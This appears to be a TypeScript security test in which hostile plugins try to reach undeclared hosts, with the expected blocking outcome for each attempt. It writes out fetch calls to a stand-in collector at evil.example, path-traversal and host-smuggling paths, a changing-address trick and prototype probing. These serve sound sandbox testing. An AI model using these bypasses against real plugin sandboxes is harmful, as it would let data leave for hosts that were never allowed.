import {
  createToken,
  defineEndpoint,
  inject,
  injectable,
  type Platform,
  PlatformToken,
  provide,
  type StandardSchema,
} from '#kernel'
import { type HostileCase, hostile } from '../hostile-case.js'

const evil = 'https://evil.example/collect'
const anything: StandardSchema<unknown> = {
  '~standard': { version: 1, vendor: 'test', validate: (value) => ({ value }) },
}
const endpoint = (service: string, path: string) =>
  defineEndpoint({ id: 'hostile', method: 'GET', path, service, answer: anything })

class Spy {
  constructor(readonly platform: Platform) {}
}
// Decorators called by hand: tests are compiled without them.
inject(PlatformToken.id)(Spy, undefined, 0)
injectable()(Spy)

const SpyToken = createToken<Platform>('hostile.spy')
const SpyClassToken = createToken<Spy>('hostile.spyClass')

/** Creates an address whose text changes with each read. */
function changing(...addresses: readonly string[]): string {
  const left = [...addresses]
  return { toString: () => left.shift() ?? evil } as never
}

/** Sends data to an undeclared host. */
export const callsHosts: HostileCase = {
  title: 'calls hosts that it did not declare',
  requirements: '[SEC-08] [KRN-08]',
  plugins: (probe) => [
    hostile('hostileCaller', {
      services: [
        provide(SpyToken, { deps: [PlatformToken], create: (platform) => platform }),
        provide(SpyClassToken, { useClass: Spy }),
      ],
      contributes: { services: ['mirror'] },
      start({ api, platform, get, connections }) {
        const mirror = 'https://mirror.example/api/x'
        probe.attempt('a declared service', () => api.call(endpoint('mirror', '/x')))
        probe.attempt('its address by fetch', () => platform.fetch(mirror))
        probe.attempt('an undeclared service', () => api.call(endpoint('vault', '/x')))
        probe.attempt('a service that nobody configured', () => api.call(endpoint('constructor', '/x')))
        probe.attempt('a path that is an address', () => api.call(endpoint('mirror', evil)))
        probe.attempt('a path with slashes', () => api.call(endpoint('mirror', '///evil.example/x')))
        probe.attempt('a path with backslashes', () => api.call(endpoint('mirror', '/\\evil.example/x')))
        probe.attempt('a path out of the service', () => api.call(endpoint('mirror', '/../admin')))
        probe.attempt('a path part out of the service', () =>
          api.call(endpoint('mirror', '/:part'), { path: { part: '../../admin' } }),
        )
        probe.note('the address of a picture elsewhere', String(api.url('mirror', evil)))
        probe.attempt('fetch', () => platform.fetch(evil))
        probe.attempt('fetch of the page', () => platform.fetch('/me'))
        probe.attempt('fetch of the node', () => platform.fetch('https://rpc.example'))
        probe.attempt('an address that changes', () =>
          platform.fetch(changing(mirror, mirror, mirror, mirror)),
        )
        probe.attempt('a request for another host', () => platform.fetch(new Request(evil) as never))
        probe.attempt('fetch by the token', () => get(PlatformToken).fetch(evil))
        probe.attempt('fetch by a service', () => get(SpyToken).fetch(evil))
        probe.attempt('fetch by a class', () => get(SpyClassToken).platform.fetch(evil))
        const { __proto__: behind } = platform as never as { readonly __proto__: Platform | undefined }
        probe.note('what is behind the platform', String(behind && typeof behind.fetch))
        const { constructor: maker } = connections
        probe.note('what is behind the connections', typeof maker)
      },
    }),
    hostile('hostileOpaque', {
      // Opaque addresses, which have no host, all have the same origin.
      contributes: { pageNeeds: () => ({ connect: ['data:text/plain,x', 'nonsense'] }) },
      start({ platform }) {
        probe.attempt('an opaque address', () => platform.fetch('blob:null/1'))
      },
    }),
    hostile('hostileNeeds', {
      contributes: {
        pageNeeds: () => {
          throw new Error('thrown by pageNeeds')
        },
      },
      start({ platform }) {
        probe.attempt('fetch where its needs throw', () => platform.fetch(evil))
      },
    }),
  ],
  outcomes: {
    'a declared service': 'allowed',
    'its address by fetch': 'allowed',
    'an undeclared service': 'SERVICE_NOT_DECLARED',
    'a service that nobody configured': 'SERVICE_NOT_DECLARED',
    'a path that is an address': 'ORIGIN_NOT_DECLARED',
    'a path with slashes': 'ORIGIN_NOT_DECLARED',
    'a path with backslashes': 'ORIGIN_NOT_DECLARED',
    'a path out of the service': 'ORIGIN_NOT_DECLARED',
    'a path part out of the service': 'allowed',
    'the address of a picture elsewhere': 'undefined',
    fetch: 'ORIGIN_NOT_DECLARED',
    'fetch of the page': 'ORIGIN_NOT_DECLARED',
    'fetch of the node': 'ORIGIN_NOT_DECLARED',
    'an address that changes': 'allowed',
    'a request for another host': 'ORIGIN_NOT_DECLARED',
    'fetch by the token': 'ORIGIN_NOT_DECLARED',
    'fetch by a service': 'ORIGIN_NOT_DECLARED',
    'fetch by a class': 'ORIGIN_NOT_DECLARED',
    'what is behind the platform': 'undefined',
    'what is behind the connections': 'undefined',
    'an opaque address': 'ORIGIN_NOT_DECLARED',
    'fetch where its needs throw': 'ORIGIN_NOT_DECLARED',
    'hosts that were asked': 'mirror.example',
  },
  faults: [],
  broken: [],
  afterwards({ platform, probe }) {
    const hosts = new Set(platform.requests.map(({ url }) => new URL(url).host))
    probe.note('hosts that were asked', [...hosts].join())
  },
}
